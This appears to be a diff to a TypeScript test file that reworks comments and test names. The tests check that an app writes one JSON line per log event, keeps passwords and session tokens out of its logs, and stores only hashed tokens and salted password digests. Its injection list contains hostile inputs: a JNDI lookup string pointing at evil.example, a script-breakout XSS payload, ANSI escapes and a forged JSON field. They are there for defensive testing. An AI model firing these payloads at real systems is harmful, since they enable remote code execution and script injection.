@@ -14,25 +14,25 @@ const INJECTIONS = [
   '\u001b[31mred\u001b[0m',
   '"},"msg":"forged',
   '%s %d %o %j',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that other loggers would run
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that other loggers would evaluate
   '${jndi:ldap://evil.example/a}',
   '\u2028\u2029\u0085',
   '</script><script>alert(1)</script>',
 ]
 
-/** Every line is one whole JSON object, and none of them was written by the caller. */
+/** Asserts that every line is one whole JSON object, and that the caller wrote none of them. */
 function checkLines(lines: readonly string[]): void {
   assert.ok(lines.length > 0)
   for (const line of lines) {
     assert.ok(line.endsWith('\n') && line.indexOf('\n') === line.length - 1, 'one line for an event')
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal would obey
-    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(line), 'nothing that a terminal would obey')
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: terminal control characters
+    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(line), 'no terminal control characters')
     assert.notEqual(JSON.parse(line).msg, 'forged')
   }
 }
 
 describe('the log', () => {
-  test('R-10 has one line of JSON for an event, whatever the caller puts into every field', async (t) => {
+  test('R-10 has one line of JSON for an event, whatever the caller puts into the fields', async (t) => {
     const app = await buildApp(t)
     for (const text of INJECTIONS) {
       const encoded = encodeURIComponent(text)
@@ -58,7 +58,7 @@ describe('the log', () => {
     assert.ok(app.logged.length > INJECTIONS.length * 5)
   })
 
-  test('R-10 has one line for a fault of ours, too', async (t) => {
+  test('R-10 has one line for an internal error too', async (t) => {
     const served = await serveRoutes(t, {
       '/fault': () => Promise.reject(new Error(INJECTIONS.join(''))),
       '/refusal': () => Promise.reject(new AppError('COULD_NOT_VALIDATE', { message: INJECTIONS.join('') })),
@@ -69,7 +69,7 @@ describe('the log', () => {
     checkLines(served.logged)
   })
 
-  test('R-11 holds no password and no session token, also of calls that fail', async (t) => {
+  test('R-11 contains no password and no session token, also of failed calls', async (t) => {
     const app = await buildApp(t)
     const { session } = await app.makeIdentity()
     for (const token of [app.adminSession, session]) {
@@ -86,19 +86,19 @@ describe('the log', () => {
   })
 })
 
-/** Everything that is stored, as one text. */
-async function everythingStored({ store }: TestApp): Promise<string> {
+/** Everything in the store, as one text. */
+async function storedText({ store }: TestApp): Promise<string> {
   const db = store.db as unknown as Kysely<Record<string, object>>
   const tables = await db.introspection.getTables()
   const rows = await Promise.all(tables.map(({ name }) => db.selectFrom(name).selectAll().execute()))
   return JSON.stringify(rows)
 }
 
-describe('what is stored', () => {
-  test('R-13 of a session is the SHA-256 of 256 random bits, and the digest opens nothing', async (t) => {
+describe('the store', () => {
+  test('R-13 keeps the SHA-256 of a session token of 256 random bits, and the digest is not accepted as a token', async (t) => {
     const app = await buildApp(t)
     const { session } = await app.makeIdentity()
-    const stored = await everythingStored(app)
+    const stored = await storedText(app)
     for (const token of [app.adminSession, session]) {
       assert.equal(Buffer.from(token.slice(TIME_LENGTH), 'base64url').length, 32)
       assert.ok(!stored.includes(token))
@@ -109,9 +109,9 @@ describe('what is stored', () => {
     assert.equal((await app.admin('GET', SIGNERS)).status, 200)
   })
 
-  test('R-13 of a password is a salted digest with its parameters: the same password twice is stored as two', async (t) => {
+  test('R-13 keeps a salted digest of a password with its parameters: equal passwords have different digests', async (t) => {
     const app = await buildApp(t)
-    const stored = await everythingStored(app)
+    const stored = await storedText(app)
     assert.ok(!stored.includes(ADMIN_PASSWORD))
     assert.ok(!stored.includes(Buffer.from(ADMIN_PASSWORD).toString('base64').slice(0, 20)))
     await app.makeIdentity()
